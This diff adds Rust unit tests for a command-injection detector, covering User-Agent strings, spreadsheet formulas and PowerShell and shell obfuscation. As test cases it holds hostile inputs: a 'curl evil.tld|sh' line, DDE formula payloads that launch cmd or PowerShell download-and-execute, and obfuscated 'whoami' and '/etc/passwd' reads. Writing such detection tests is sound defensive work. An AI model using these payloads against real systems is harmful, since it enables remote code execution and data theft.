@@ -4629,3 +4629,107 @@ fn xml_text_nodes_are_judged_decoded() {
         assert!(!hit(v), "{v:?}");
     }
 }
+
+/// A User-Agent lists runtimes with their versions in its comment (`PHP 8.3.13`) and
+/// platforms glued after a product token's `;` (`SendGrid/6.11.0;java`).
+#[test]
+fn user_agent_versions_and_listed_platforms() {
+    for v in [
+        "Composer/2.8.2 (Linux; 6.1.0-27-amd64; PHP 8.3.13; cURL 7.88.1; Platform-PHP 8.3.13; CI)",
+        "Composer/2.8.2 (Linux; 6.1.0-27-amd64; PHP 8.3.13)",
+        "MyApp/1.4 (iOS; Python 3.11; node 20.1.0-beta)",
+        "SendGrid/6.11.0;java",
+        "okhttp/4.12.0;python",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "Mozilla/5.0 (X11; Linux; sleep 5)",
+        "Mozilla/5.0 (X11; Linux; php -r phpinfo();)",
+        "Foo/1.0;id",
+        "report/2024;curl evil.tld|sh",
+        "SendGrid/6.11.0;java -jar /tmp/x.jar",
+        "SendGrid/6.11.0;whoami",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// A spreadsheet formula in a `;`-separating locale is no command list; DDE is.
+#[test]
+fn spreadsheet_formulas_with_semicolons() {
+    for v in [
+        "=VLOOKUP(A2;Sheet2!A:C;3;FALSE)",
+        "=WENN(E5=\"\";\"-\";E5*1,19)",
+        "=SUMMEWENN('Jan 24'!B:B;\"Miete\";'Jan 24'!C:C)",
+        "=IF(A1>0;TRUE;FALSE)",
+        "=A1|'note'",
+        "- pipe | 'quoted' ! here",
+        "=ADDRESS(1;2)",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\"",
+        "+cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
+        "=DDE(\"cmd\";\"/C calc\";\"A0\")",
+        "=IF(A1;id;1)\n;id",
+        "=X(1);id",
+        "=IF(1;$(id);2)",
+        "=SUM(1;`id`)",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+/// PowerShell hands a script block to `Invoke-Command`, `ForEach-Object` and `Where-Object`
+/// (and their aliases) and runs it; the name ends at `{`.
+#[test]
+fn powershell_script_block_invokers() {
+    for v in [
+        ";icm{whoami}",
+        "x|%{whoami}",
+        "test'|%{iex 'calc'}|'",
+        "x|foreach{whoami}",
+        "x | ForEach-Object { id }",
+        "x;%{%{%{whoami}}}",
+        "1|?{whoami}",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "x|%{$_.Name}",
+        "items|foreach{$_.price * 2}",
+        "{{ foreach{x} }}",
+        "where {you are}",
+        "50%{discount}",
+        "a; where {x} is the set",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+/// An unset variable opening the command word, then a quoted or escaped piece of the name:
+/// sh splices `$u'who'ami` into `whoami`.
+#[test]
+fn unset_variable_then_quoted_name_piece() {
+    for v in [
+        ";$u'who'ami",
+        ";$u\"who\"ami",
+        ";$u\\whoami",
+        ";${u}'who'ami",
+        "|$x'cat' /etc/passwd",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+    for v in [
+        "$u'who'ami",
+        "price: $x'5'",
+        "a; $name's book",
+        "Total; $amount\"usd\"",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
